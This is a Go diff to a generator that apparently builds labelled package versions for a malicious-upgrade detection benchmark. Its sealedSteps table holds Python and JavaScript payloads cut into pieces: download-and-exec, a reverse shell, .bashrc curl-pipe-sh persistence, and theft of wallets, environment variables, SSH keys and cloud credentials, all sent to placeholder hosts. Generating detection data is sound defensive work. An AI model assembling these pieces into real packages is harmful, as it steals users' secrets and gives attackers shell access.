@@ -2,202 +2,259 @@ package generate
 
 import (
 	"fmt"
+	"regexp"
 	"slices"
 )
 
-// sealedScenarios describes rows of versions in forms of the sealed half: all that is
-// around a payload changes from version to version, a payload that stays moves to
-// another place in another dress, and one that comes in steps comes in files of its
-// own.
+// sealedScenarios describes rows of versions in forms of the sealed half: grown
+// packages that change a few files from version to version, payloads that stay but
+// move, payloads cut into steps in several cuts, and honest upgrades.
 func sealedScenarios(seed uint64) []Scenario {
 	var out []Scenario
-	seen := map[string]bool{}
-	for _, s := range slices.Concat(sealedPython, sealedPythonMore, sealedScripts) {
+	seen := map[string]int{}
+	for _, s := range sealedShapes() {
 		key := s.lang.ecosystem() + " " + s.family
-		if s.weak || seen[key] {
+		if s.weak || seen[key] == 2 {
 			continue
 		}
-		seen[key] = true
-		for _, kind := range []string{"added", "repeated", "honest"} {
+		seen[key]++
+		kinds := []string{"added", "honest"}
+		if seen[key] == 2 {
+			kinds = []string{"repeated"}
+		}
+		if s.lang == javascript && seen[key] == 1 {
+			kinds = append(kinds, "repeated")
+		}
+		for _, kind := range kinds {
 			out = append(out, sealedRow(seed, s, kind))
+		}
+	}
+	for _, s := range sealedHonest {
+		if s.places == nil && len(out) > 0 {
+			out = append(out, sealedRow(seed, s, "honest"))
 		}
 	}
 	for _, lang := range []language{python, javascript} {
 		for n := range sealedSteps[lang] {
-			for v := range 2 {
-				out = append(out, sealedSmallSteps(seed, lang, n, v))
+			for _, cut := range []string{"files", "one-file", "pairs"} {
+				out = append(out, sealedSmallSteps(seed, lang, n, cut))
 			}
 		}
 	}
 	return out
 }
 
-// sealedRow is a package that is rewritten in each version; from the second on a
-// shape is in it.
+// sealedRow is a grown package; from the second version on a shape is in it.
 func sealedRow(seed uint64, s shape, kind string) Scenario {
-	name := id("row", kind, "moving", s.lang.ecosystem(), s.family, s.name)
+	name := id("row", kind, "grown", s.lang.ecosystem(), s.family, s.name)
 	sc := Scenario{ID: name, Kind: kind, Ecosystem: s.lang.ecosystem(), Family: s.family, Split: Sealed, Label: Malicious, Payload: 1}
 	add := s.bad
 	if kind == "honest" {
 		sc.Label, sc.Payload, add = Benign, 0, s.good
 	}
-	dresses := drawn(seed, s, sealedDisguises, len(sealedDisguises))
-	dresses = slices.DeleteFunc(dresses, func(d disguise) bool { return kind == "honest" && !d.honest })
-	version := func(n int, code snippet, d disguise, place string) func() built {
-		return func() built {
-			packed := packageName(source(seed, name))
-			rng := source(seed, name, n)
-			number := fmt.Sprintf("2.%d.0", n)
-			if s.lang == python {
-				p := pythonPackage{rng: rng, name: packed, version: number}
-				return p.build(code, d, place, false)
-			}
-			p := scriptPackage{rng: rng, name: packed, version: number}
-			return p.build(code, d, place, false)
-		}
+	if sc.Family == "" {
+		sc.Family = aloneFamily
 	}
+	dresses := sealedDrawn(seed, s, sealedDisguises, len(sealedDisguises))
+	dresses = slices.DeleteFunc(dresses, func(d disguise) bool { return kind == "honest" && !d.honest })
 	at := func(n int) (disguise, string) {
 		d := dresses[n%len(dresses)]
 		place := placeFor(sealedShape(s, d), d, source(seed, name, "place", n))
 		if kind == "honest" {
-			place = quietPlace(s, honestPlace(place))
+			place = sealedQuiet(s, honestPlace(place))
 		}
 		return d, place
 	}
+	version := func(n int, code snippet, d disguise, place string) func() built {
+		return func() built { return sealedRelease(seed, name, s.lang, n).build(code, d, place) }
+	}
+	plain := disguises[0]
 	d, place := at(1)
-	sc.make = append(sc.make, version(0, snippet{}, disguises[0], plainPlace(s.lang, place)), version(1, add, d, place))
+	sc.make = append(sc.make, version(0, snippet{}, plain, plainSealed(s.lang, place)), version(1, add, d, place))
 	if kind != "added" {
 		d, next := at(2)
-		if sdistPlace(next) != sdistPlace(place) { // the next version is the same kind of file
+		if sealedSource(next) != sealedSource(place) {
 			next = place
 		}
-		if !sealedFits(next, d) {
-			d = disguises[0]
+		if !fits(next, s, d) {
+			d = plain
 		}
 		sc.make = append(sc.make, version(2, add, d, next))
 	}
 	return sc
 }
 
-// quietPlace is where an honest upgrade puts code: it adds no hook, which would be
-// something to look at whoever adds it.
-func quietPlace(s shape, place string) string {
-	quiet := []string{"init", "module", "nested", "function", "main-module", "console-script", "lazy-attribute", "main", "bin-bare", "worker-file", "exports-subpath"}
-	if slices.Contains(quiet, place) || slices.Contains(s.places, place) {
+// grownRelease is one version of a grown package.
+type grownRelease struct {
+	lang          language
+	name, version string
+	seed          uint64
+	row           string
+}
+
+func sealedRelease(seed uint64, row string, lang language, n int) grownRelease {
+	return grownRelease{lang, packageName(source(seed, row)), fmt.Sprintf("3.%d.%d", n, n%2), seed, row}
+}
+
+// build writes the version; what surrounds the payload is drawn the same in each.
+func (g grownRelease) build(code snippet, d disguise, place string, files ...entry) built {
+	d.grown = true
+	rng := source(g.seed, g.row, "around")
+	if g.lang == python {
+		p := pythonPackage{rng: rng, name: g.name, version: g.version, contents: contents{files}}
+		return p.build(code, d, place, false)
+	}
+	p := scriptPackage{rng: rng, name: g.name, version: g.version, contents: contents{files}}
+	return p.build(code, d, place, false)
+}
+
+// sealedQuiet is where an honest upgrade puts code: it adds no hook.
+func sealedQuiet(s shape, place string) string {
+	if slices.Contains(slices.Concat(sealedPythonPlaces[:2], sealedScriptPlaces[1:]), place) {
 		return place
 	}
-	return []string{"init", "main"}[s.lang]
+	return quietPlace(s, place)
 }
 
-// plainPlace is a place of the same kind of file with nothing odd about it.
-func plainPlace(lang language, place string) string {
-	switch {
-	case lang == javascript:
-		return "main"
-	case sdistPlace(place):
+// plainSealed is a place of the same kind of file with nothing odd about it.
+func plainSealed(lang language, place string) string {
+	if lang == python && sealedSource(place) {
 		return "setup"
 	}
-	return "init"
+	return plainPlace(lang, place)
 }
 
-// sdistPlace says whether a place is in an sdist.
-func sdistPlace(place string) bool {
-	return slices.Contains([]string{"setup", "cmdclass", "backend", "hatch-hook", "distclass", "extension-class", "setup-helper"}, place)
-}
+// sealedSource says whether a place is in an sdist.
+func sealedSource(place string) bool { return sdistPlace(place) || place == "version-attribute" }
 
-// sealedSteps are payloads cut into modules, each of which says little; the last
-// line, in the package's main module, sets them going.
+// sealedSteps are payloads cut into five pieces, each of which says little; the last
+// one sets them going.
 var sealedSteps = [][]stepwise{
 	python: {
-		{"dns-exfil", []string{
-			"SUFFIX = \".s.$DOMAIN\"\nWIDTH = 48\n",
-			"import getpass\nimport platform\n\n\ndef facts():\n    return [getpass.getuser(), platform.node()]\n",
-			"from ._part2 import facts\n\n\ndef text():\n    return \"|\".join(facts()).encode().hex()\n",
-			"import socket\n\nfrom ._part1 import SUFFIX, WIDTH\n\n\ndef ask(value):\n    for at in range(0, len(value), WIDTH):\n        socket.gethostbyname(value[at:at + WIDTH] + SUFFIX)\n",
-			"from ._part3 import text\nfrom ._part4 import ask\n\nask(text())\n",
+		{"download-exec", []string{
+			"PLACE = \"$URL\"\n",
+			"import urllib.request\n\n\ndef opened(place):\n    return urllib.request.urlopen(place, timeout=4)\n",
+			"def text_of(reply):\n    return reply.read().decode(\"utf-8\")\n",
+			"import types\n\n\ndef module_of(text):\n    module = types.ModuleType(\"rules\")\n    exec(compile(text, \"rules\", \"exec\"), module.__dict__)\n    return module\n",
+			"module_of(text_of(opened(PLACE)))\n",
+		}},
+		{"wallets", []string{
+			"import pathlib\n\nHOME = pathlib.Path.home()\n",
+			"NAMES = (\".config/solana/id.json\", \".electrum/wallets/default_wallet\", \".ethereum/keystore\")\n",
+			"def present(home, names):\n    return [home / name for name in names if (home / name).exists()]\n",
+			"import http.client\n\n\ndef put(body):\n    http.client.HTTPSConnection(\"$HOST\").request(\"PUT\", \"/f\", body)\n",
+			"for _file in present(HOME, NAMES):\n    put(_file.read_bytes() if _file.is_file() else b\"\")\n",
 		}},
 		{"reverse-shell", []string{
-			"PEER = (\"$ADDRESS\", 4444)\n",
-			"import subprocess\n\n\ndef answer(line):\n    return subprocess.run(line, shell=True, capture_output=True).stdout\n",
-			"import socket\n\nfrom ._part1 import PEER\n\n\ndef opened():\n    return socket.create_connection(PEER, timeout=9).makefile(\"rwb\")\n",
-			"def pump(stream, function):\n    for line in stream:\n        stream.write(function(line.decode()))\n        stream.flush()\n",
-			"from ._part2 import answer\nfrom ._part3 import opened\nfrom ._part4 import pump\n\npump(opened(), answer)\n",
+			"import os\n\nPEER = (\"$ADDRESS\", 9001)\nSHELL = os.environ.get(\"SHELL\", \"/bin/sh\")\n",
+			"import socket\n\n\ndef linked(peer):\n    return socket.create_connection(peer, timeout=20)\n",
+			"def ends(link):\n    return [os.dup2(link.fileno(), n) for n in (0, 1, 2)]\n",
+			"import pty\n\n\ndef begin(shell):\n    return pty.spawn([shell, \"-i\"])\n",
+			"_link = linked(PEER)\nends(_link)\nbegin(SHELL)\n",
 		}},
-		{"persistence", []string{
-			"LINE = \"(curl -s $URL | sh) &\"\n",
-			"import pathlib\n\n\ndef home(name):\n    return pathlib.Path.home() / name\n",
-			"from ._part2 import home\n\n\ndef files():\n    return [home(n) for n in (\".bashrc\", \".zshrc\")]\n",
-			"def append(file, line):\n    with file.open(\"a\") as handle:\n        handle.write(\"\\n\" + line + \"\\n\")\n",
-			"from ._part1 import LINE\nfrom ._part3 import files\nfrom ._part4 import append\n\nfor _file in files():\n    append(_file, LINE)\n",
-		}},
-		{"messenger", []string{
-			"HOOK = \"$DISCORD\"\n",
-			"import os\n\n\ndef rows():\n    return [\"%s=%s\" % pair for pair in os.environ.items()]\n",
-			"from ._part2 import rows\n\n\ndef message():\n    return {\"content\": \"\\n\".join(rows())[:1900]}\n",
-			"import requests\n\n\ndef post(url, value):\n    return requests.post(url, json=value, timeout=4)\n",
-			"from ._part1 import HOOK\nfrom ._part3 import message\nfrom ._part4 import post\n\npost(HOOK, message())\n",
+		{"decode-exec", []string{
+			"import base64\n\nTABLE = \"aW1wb3J0IG9zO29zLnN5c3RlbSgndHJ1ZScpICMgaW5lcnQ=\"\n",
+			"def plain(table):\n    return base64.b64decode(table).decode()\n",
+			"def unit(text):\n    return compile(text, \"table\", \"exec\")\n",
+			"def scope():\n    return {\"__name__\": \"table\"}\n",
+			"exec(unit(plain(TABLE)), scope())\n",
 		}},
 	},
 	javascript: {
-		{"decode-exec", []string{
-			"exports.parts = ['cmVxdWlyZSgnY2hpbGRf', 'cHJvY2VzcycpLmV4ZWNTeW5jKCd0cnVlJyk='];\n",
-			"const { parts } = require('./part1');\n\nexports.joined = () => parts.join('');\n",
-			"exports.plain = (text) => Buffer.from(text, 'base64').toString();\n",
-			"exports.made = (text) => new Function('require', text);\n",
-			"const { joined } = require('./part2');\nconst { plain } = require('./part3');\nconst { made } = require('./part4');\n\nmade(plain(joined()))(require);\n",
+		{"env-exfil", []string{
+			"const place = { hostname: '$HOST', path: '/m', method: 'POST' };\n",
+			"const values = () => Object.entries(process.env);\n",
+			"const lines = (pairs) => pairs.map(([k, v]) => k + '=' + v).join('\\n');\n",
+			"const post = (to, body) => require('https').request(to).on('error', () => {}).end(body);\n",
+			"post(place, lines(values()));\n",
 		}},
-		{"wallets", []string{
-			"exports.names = ['.config/solana/id.json', '.electrum/wallets/default_wallet', '.config/Exodus/exodus.wallet'];\n",
-			"const os = require('os');\nconst path = require('path');\n\nexports.at = (name) => path.join(os.homedir(), name);\n",
-			"const fs = require('fs');\n\nexports.read = (file) => (fs.existsSync(file) ? fs.readFileSync(file, 'base64') : null);\n",
-			"exports.put = (body) => fetch('$URL', { method: 'PUT', body });\n",
-			"const { names } = require('./part1');\nconst { at } = require('./part2');\nconst { read } = require('./part3');\nconst { put } = require('./part4');\n\nnames.map(at).map(read).filter(Boolean).forEach(put);\n",
+		{"download-exec", []string{
+			"const place = '$URL';\n",
+			"const answer = (at) => fetch(at).then((r) => r.json());\n",
+			"const field = (object) => object.cookie || '';\n",
+			"const made = (text) => Function('require', text);\n",
+			"answer(place).then(field).then(made).then((f) => f(require));\n",
 		}},
-		{"reverse-shell", []string{
-			"exports.peer = { host: '$ADDRESS', port: 4444 };\n",
-			"const net = require('net');\nconst { peer } = require('./part1');\n\nexports.wire = () => net.connect(peer);\n",
-			"const { spawn } = require('child_process');\n\nexports.child = (program) => spawn(program, [], { stdio: 'pipe' });\n",
-			"exports.tie = (a, b) => {\n  a.pipe(b.stdin);\n  b.stdout.pipe(a);\n};\n",
-			"const { wire } = require('./part2');\nconst { child } = require('./part3');\nconst { tie } = require('./part4');\n\ntie(wire(), child('/bin/sh'));\n",
+		{"persistence", []string{
+			"const line = '(curl -s $URL | sh) &';\n",
+			"const names = ['.bashrc', '.zshrc', '.profile'];\n",
+			"const full = (name) => require('path').join(require('os').homedir(), name);\n",
+			"const add = (file, text) => require('fs').appendFileSync(file, '\\n' + text + '\\n');\n",
+			"names.map(full).forEach((file) => add(file, line));\n",
 		}},
-		{"messenger", []string{
-			"exports.hook = '$TELEGRAM';\n",
-			"exports.rows = () => Object.entries(process.env).map((pair) => pair.join('='));\n",
-			"const { rows } = require('./part2');\n\nexports.form = () => new URLSearchParams({ chat_id: '1', text: rows().join('\\n') });\n",
-			"exports.post = (url, body) => fetch(url, { method: 'POST', body });\n",
-			"const { hook } = require('./part1');\nconst { form } = require('./part3');\nconst { post } = require('./part4');\n\npost(hook, form());\n",
+		{"credential-files", []string{
+			"const where = '$URL';\n",
+			"const home = require('os').homedir();\n",
+			"const files = () => ['.npmrc', '.ssh/id_ed25519', '.aws/credentials'].map((n) => require('path').join(home, n));\n",
+			"const texts = (list) => list.filter((f) => require('fs').existsSync(f)).map((f) => require('fs').readFileSync(f, 'base64'));\n",
+			"fetch(where, { method: 'POST', body: JSON.stringify(texts(files())) });\n",
 		}},
 	},
 }
 
-// sealedSmallSteps is a payload that arrives in five versions, each a module more.
-func sealedSmallSteps(seed uint64, lang language, way, variant int) Scenario {
-	name := id("row-small-steps", "modules", lang.ecosystem(), way, variant)
+// sealedSmallSteps is a payload that arrives piece by piece: all in one module, in a
+// module each, or two pieces in a version.
+func sealedSmallSteps(seed uint64, lang language, way int, cut string) Scenario {
+	name := id("row-small-steps", "grown", lang.ecosystem(), way, cut)
 	steps := sealedSteps[lang][way]
-	sc := Scenario{ID: name, Kind: "small-steps", Ecosystem: lang.ecosystem(), Family: steps.family, Split: Sealed, Label: Malicious, Payload: len(steps.pieces)}
-	for n := range len(steps.pieces) + 1 {
+	size := 1
+	if cut == "pairs" {
+		size = 2
+	}
+	versions := (len(steps.pieces) + size - 1) / size
+	sc := Scenario{ID: name, Kind: "small-steps", Ecosystem: lang.ecosystem(), Family: steps.family, Split: Sealed, Label: Malicious, Payload: versions}
+	for n := range versions + 1 {
 		sc.make = append(sc.make, func() built {
 			v := values(source(seed, name, "values"), "inert")
-			packed, version := packageName(source(seed, name)), fmt.Sprintf("0.%d.0", n+1)
-			rng := source(seed, name, "around", n*variant)
-			last := len(steps.pieces) - 1
-			code := snippet{}
-			if n > last {
-				code.code = v.Replace(steps.pieces[last])
+			pieces := slices.Clone(steps.pieces[:min(n*size, len(steps.pieces))])
+			for i := range pieces {
+				pieces[i] = v.Replace(pieces[i])
 			}
-			if lang == python {
-				p := pythonPackage{rng: rng, name: packed, version: version}
-				for i, piece := range steps.pieces[:min(n, last)] {
-					p.contents.add(fmt.Sprintf("%s/_part%d.py", packed, i+1), v.Replace(piece))
-				}
-				return p.build(code, disguises[0], "init", false)
-			}
-			p := scriptPackage{rng: rng, name: packed, version: version}
-			for i, piece := range steps.pieces[:min(n, last)] {
-				p.contents.add(fmt.Sprintf("lib/part%d.js", i+1), v.Replace(piece))
-			}
-			return p.build(code, disguises[0], "exports-subpath", false)
+			code, files := sealedCut(lang, sealedRelease(seed, name, lang, n).name, cut, pieces)
+			place := []string{"init", "barrel"}[lang]
+			return sealedRelease(seed, name, lang, n).build(code, disguises[0], place, files...)
 		})
 	}
 	return sc
 }
+
+// sealedCut puts pieces into one module, or each into a file that the next ones take
+// all from.
+func sealedCut(lang language, name, cut string, pieces []string) (snippet, []entry) {
+	var code string
+	if cut == "one-file" {
+		for _, p := range pieces {
+			code += p + "\n\n"
+		}
+		return snippet{code: code}, nil
+	}
+	var files []entry
+	for i, p := range pieces {
+		last := i == len(pieces)-1
+		switch {
+		case lang == python:
+			code = p
+			for k := range i {
+				code = fmt.Sprintf("from %s.step%d import *\n", name, k+1) + code
+			}
+			if !last || i < 4 {
+				files = append(files, entry{fmt.Sprintf("%s/step%d.py", name, i+1), code, false})
+				code = ""
+			}
+		case i < 4:
+			files = append(files, entry{fmt.Sprintf("lib/step%d.js", i+1), "'use strict';\n\n" + p + "\nmodule.exports = { " + definedName(p) + " };\n", false})
+			code = ""
+		default:
+			code = p
+			for k := range i {
+				code = fmt.Sprintf("const { %s } = require('../step%d.js');\n", definedName(pieces[k]), k+1) + code
+			}
+		}
+	}
+	return snippet{code: code}, files
+}
+
+var definedConst = regexp.MustCompile(`const (\w+) =`)
+
+// definedName is what a piece of a script defines first.
+func definedName(code string) string { return definedConst.FindStringSubmatch(code)[1] }
